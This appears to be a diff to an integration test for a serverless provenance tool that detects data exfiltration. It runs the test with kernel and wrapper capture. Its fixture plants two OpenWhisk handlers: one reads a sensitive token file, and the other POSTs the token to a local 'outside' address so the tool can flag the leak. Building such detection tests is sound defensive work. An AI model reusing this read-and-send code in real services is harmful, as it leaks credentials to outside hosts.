@@ -4,7 +4,8 @@
 // store is (no PROVENANCE_STORE, no custom.provenance.store). The service names its token file
 // sensitive; one action reads it and hands it to a second action, which POSTs it to an outside
 // address (127.0.0.66). The settings reach the correlator inside the deployed actions, so
-// `provenance report --json` shows the exfiltration.
+// `provenance report --json` shows the exfiltration. Both ways of capturing: with the kernel's capture
+// on (the wrapper's file and socket hooks are off, the kernel's events stand in for them) and off.
 import { spawn, type ChildProcess } from 'node:child_process';
 import * as fs from 'node:fs';
 import { createServer, type Server } from 'node:http';
@@ -20,125 +21,139 @@ import { runNode } from './run-node';
 const SERVICE = 'travel';
 const OUTSIDE = '127.0.0.66';
 
-const dirs: string[] = [];
-let platform: ChildProcess | undefined;
-let outside: Server | undefined;
-let storeDir: string;
-let serviceDir: string;
-let env: Record<string, string> & { HOME: string };
-let apihost: string;
-let auth: string;
-let outsidePort: number;
-let received: string[] = [];
-let stdout = '';
-let stderr = '';
+describe.each([
+  { capture: 'kernel', kernel: true },
+  { capture: 'wrapper', kernel: false },
+])('settings travel with the deployment ($capture capture)', ({ kernel }) => {
+  const dirs: string[] = [];
+  let platform: ChildProcess | undefined;
+  let outside: Server | undefined;
+  let storeDir: string;
+  let serviceDir: string;
+  let env: Record<string, string> & { HOME: string };
+  let apihost: string;
+  let auth: string;
+  let outsidePort: number;
+  let received: string[] = [];
+  let stdout = '';
+  let stderr = '';
 
-beforeAll(async () => {
-  assertBuilt();
-  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'config-elsewhere-'));
-  dirs.push(base);
-  storeDir = path.join(base, 'store');
-  platform = spawn(process.execPath, [path.join(ROOT, 'bin', 'provenance.js'), 'local', 'start', '--store', storeDir, '--idle-timeout', '120'], {
-    cwd: base,
-    stdio: ['ignore', 'pipe', 'pipe'],
-  });
-  platform.stdout!.on('data', (c: Buffer) => (stdout += c.toString()));
-  platform.stderr!.on('data', (c: Buffer) => (stderr += c.toString()));
-  const deadline = Date.now() + 60_000;
-  while (!/WSK_CONFIG_FILE=/.test(stdout)) {
-    if (Date.now() > deadline || platform.exitCode !== null) throw new Error(`local start did not come up: ${stdout}\n${stderr}`);
-    await new Promise((r) => setTimeout(r, 100));
-  }
-  const value = (key: string) => new RegExp(`^${key}=(.*)$`, 'm').exec(stdout)![1]!;
-  apihost = value('OW_APIHOST');
-  auth = value('OW_AUTH');
-
-  outside = createServer((req, res) => {
-    let body = '';
-    req.on('data', (c) => (body += c));
-    req.on('end', () => {
-      received.push(body);
-      res.writeHead(200).end('ok');
+  beforeAll(async () => {
+    assertBuilt();
+    const base = fs.mkdtempSync(path.join(os.tmpdir(), 'config-elsewhere-'));
+    dirs.push(base);
+    storeDir = path.join(base, 'store');
+    const args = [path.join(ROOT, 'bin', 'provenance.js'), 'local', 'start', '--store', storeDir, '--idle-timeout', '120', ...(kernel ? [] : ['--no-kernel'])];
+    platform = spawn(process.execPath, args, {
+      cwd: base,
+      stdio: ['ignore', 'pipe', 'pipe'],
     });
-  });
-  await new Promise<void>((resolve, reject) => {
-    outside!.once('error', reject);
-    outside!.listen(0, OUTSIDE, resolve);
-  });
-  outsidePort = (outside.address() as AddressInfo).port;
+    platform.stdout!.on('data', (c: Buffer) => (stdout += c.toString()));
+    platform.stderr!.on('data', (c: Buffer) => (stderr += c.toString()));
+    const deadline = Date.now() + 60_000;
+    while (!/WSK_CONFIG_FILE=/.test(stdout)) {
+      if (Date.now() > deadline || platform.exitCode !== null) throw new Error(`local start did not come up: ${stdout}\n${stderr}`);
+      await new Promise((r) => setTimeout(r, 100));
+    }
+    const value = (key: string) => new RegExp(`^${key}=(.*)$`, 'm').exec(stdout)![1]!;
+    apihost = value('OW_APIHOST');
+    auth = value('OW_AUTH');
 
-  const home = makeHome();
-  dirs.push(home);
-  env = { HOME: home, OW_APIHOST: apihost, OW_AUTH: auth };
-  serviceDir = makeService({
-    'serverless.yml': [
-      `service: ${SERVICE}`,
-      'frameworkVersion: "3"',
-      'provider:',
-      '  name: openwhisk',
-      '  runtime: nodejs:20',
-      'functions:',
-      '  read:',
-      '    handler: handlers/read.main',
-      '  send:',
-      '    handler: handlers/send.main',
-      'plugins:',
-      '  - serverless-openwhisk',
-      '  - serverless-provenance',
-      'custom:',
-      '  provenance:',
-      '    sensitive:',
-      '      secrets: [token.json]',
-      '',
-    ].join('\n'),
-    // reads the sensitive file and hands it on: the first action of the leak
-    'handlers/read.js': [
-      "const fs = require('fs');",
-      "const path = require('path');",
-      "const openwhisk = require('openwhisk');",
-      'exports.main = async (params) => {',
-      "  const token = fs.readFileSync(path.join(__dirname, '..', 'vault', 'token.json'), 'utf8');",
-      `  return openwhisk().actions.invoke({ name: '${SERVICE}-dev-send', blocking: true, result: true, params: { token, host: params.host, port: params.port } });`,
-      '};',
-      '',
-    ].join('\n'),
-    // sends what it was given to an outside address: the second action
-    'handlers/send.js': [
-      "const http = require('http');",
-      'exports.main = async (params) => {',
-      '  await new Promise((resolve, reject) => {',
-      "    const req = http.request({ host: params.host, port: params.port, method: 'POST', path: '/collect' }, (res) => { res.resume(); res.on('end', resolve); });",
-      "    req.on('error', reject);",
-      '    req.end(params.token);',
-      '  });',
-      '  return { sent: params.token.length };',
-      '};',
-      '',
-    ].join('\n'),
-    'vault/token.json': '{"token":"s3cr3t"}\n',
-  });
-  dirs.push(serviceDir);
-}, 120_000);
+    outside = createServer((req, res) => {
+      let body = '';
+      req.on('data', (c) => (body += c));
+      req.on('end', () => {
+        received.push(body);
+        res.writeHead(200).end('ok');
+      });
+    });
+    await new Promise<void>((resolve, reject) => {
+      outside!.once('error', reject);
+      outside!.listen(0, OUTSIDE, resolve);
+    });
+    outsidePort = (outside.address() as AddressInfo).port;
 
-afterAll(async () => {
-  if (platform && platform.exitCode === null) {
-    const exited = new Promise((r) => platform!.once('exit', r));
-    platform.kill('SIGTERM');
-    await Promise.race([exited, new Promise((r) => setTimeout(r, 15_000))]);
-    if (platform.exitCode === null) platform.kill('SIGKILL');
+    const home = makeHome();
+    dirs.push(home);
+    env = { HOME: home, OW_APIHOST: apihost, OW_AUTH: auth };
+    serviceDir = makeService({
+      'serverless.yml': [
+        `service: ${SERVICE}`,
+        'frameworkVersion: "3"',
+        'provider:',
+        '  name: openwhisk',
+        '  runtime: nodejs:20',
+        'functions:',
+        '  read:',
+        '    handler: handlers/read.main',
+        '  send:',
+        '    handler: handlers/send.main',
+        'plugins:',
+        '  - serverless-openwhisk',
+        '  - serverless-provenance',
+        'custom:',
+        '  provenance:',
+        '    sensitive:',
+        '      secrets: [token.json]',
+        '',
+      ].join('\n'),
+      // reads the sensitive file and hands it on: the first action of the leak
+      'handlers/read.js': [
+        "const fs = require('fs');",
+        "const path = require('path');",
+        "const openwhisk = require('openwhisk');",
+        'exports.main = async (params) => {',
+        "  const token = fs.readFileSync(path.join(__dirname, '..', 'vault', 'token.json'), 'utf8');",
+        `  return openwhisk().actions.invoke({ name: '${SERVICE}-dev-send', blocking: true, result: true, params: { token, host: params.host, port: params.port } });`,
+        '};',
+        '',
+      ].join('\n'),
+      // sends what it was given to an outside address: the second action
+      'handlers/send.js': [
+        "const http = require('http');",
+        'exports.main = async (params) => {',
+        '  await new Promise((resolve, reject) => {',
+        "    const req = http.request({ host: params.host, port: params.port, method: 'POST', path: '/collect' }, (res) => { res.resume(); res.on('end', resolve); });",
+        "    req.on('error', reject);",
+        '    req.end(params.token);',
+        '  });',
+        '  return { sent: params.token.length };',
+        '};',
+        '',
+      ].join('\n'),
+      'vault/token.json': '{"token":"s3cr3t"}\n',
+    });
+    dirs.push(serviceDir);
+  }, 120_000);
+
+  afterAll(async () => {
+    if (platform && platform.exitCode === null) {
+      const exited = new Promise((r) => platform!.once('exit', r));
+      platform.kill('SIGTERM');
+      await Promise.race([exited, new Promise((r) => setTimeout(r, 15_000))]);
+      if (platform.exitCode === null) platform.kill('SIGKILL');
+    }
+    if (outside) await new Promise((r) => outside!.close(r));
+    removeScratch(dirs);
+  });
+
+  /** On failure: what the store holds of each request (the graphs name what is missing), and the platform's output. */
+  async function graphsForDiagnosis(): Promise<string> {
+    const provenance = (args: string[]) => runNode([path.join(ROOT, 'bin', 'provenance.js'), ...args, '--store', storeDir], { cwd: os.tmpdir() });
+    const requests = JSON.parse((await provenance(['requests', '--json'])).stdout || '[]') as { request: string }[];
+    const graphs = await Promise.all(requests.map(async (r) => (await provenance(['trace', r.request, '--json'])).stdout));
+    return `no exfiltration found; graphs:\n${graphs.join('\n')}\nplatform:\n${stdout}\n${stderr}`;
   }
-  if (outside) await new Promise((r) => outside!.close(r));
-  removeScratch(dirs);
-});
 
-async function report(): Promise<Incident[]> {
-  const result = await runNode([path.join(ROOT, 'bin', 'provenance.js'), 'report', '--json', '--all', '--store', storeDir], { cwd: os.tmpdir() });
-  expect(result.code, result.stderr).toBe(0);
-  return (JSON.parse(result.stdout) as { incidents: Incident[] }).incidents;
-}
+  async function report(): Promise<Incident[]> {
+    const result = await runNode([path.join(ROOT, 'bin', 'provenance.js'), 'report', '--json', '--all', '--store', storeDir], { cwd: os.tmpdir() });
+    expect(result.code, result.stderr).toBe(0);
+    return (JSON.parse(result.stdout) as { incidents: Incident[] }).incidents;
+  }
 
-describe('settings travel with the deployment', () => {
   it('a service deployed from elsewhere, with its store unknown to the plugin, is judged by its own settings', async () => {
+    // the capture this case is about, not a silent fallback to the other
+    expect(`${stdout}${stderr}`).toMatch(kernel ? /kernel capture on/ : /kernel capture off/);
     const deploy = await sls(serviceDir, ['deploy', '--verbose'], env, 120_000);
     expect(deploy.code, deploy.output).toBe(0);
     expect(deploy.output).not.toMatch(/uses its defaults/);
@@ -155,12 +170,20 @@ describe('settings travel with the deployment', () => {
       found = (await report()).filter((i) => i.kind === 'exfiltration');
       if (found.length) break;
     }
-    expect(found, `${stdout}\n${stderr}`).toHaveLength(1);
+    expect(found, found.length ? '' : await graphsForDiagnosis()).toHaveLength(1);
     expect(found[0]).toMatchObject({
       kind: 'exfiltration',
       artifact: { kind: 'file', path: expect.stringMatching(/\/vault\/token\.json$/) },
       sink: { address: OUTSIDE, port: outsidePort },
     });
     expect(found[0]!.timeline.map((p) => p.action)).toEqual(expect.arrayContaining([expect.stringMatching(/travel-dev-read$/), expect.stringMatching(/travel-dev-send$/)]));
+
+    // the LMS profile travels with the deployment too: however the batches were cut, no activation
+    // of the request is said to lack it
+    const trace = await runNode([path.join(ROOT, 'bin', 'provenance.js'), 'trace', found[0]!.requests[0]!, '--json', '--store', storeDir], { cwd: os.tmpdir() });
+    expect(trace.code, trace.stderr).toBe(0);
+    const graph = JSON.parse(trace.stdout) as { nodes: Array<{ kind: string; profile?: string }>; warnings?: Array<{ code: string }> };
+    expect(graph.warnings?.filter((w) => w.code === 'lms-profile-missing') ?? []).toEqual([]);
+    expect(graph.nodes.filter((n) => n.kind === 'activation').every((n) => n.profile)).toBe(true);
   }, 240_000);
 });
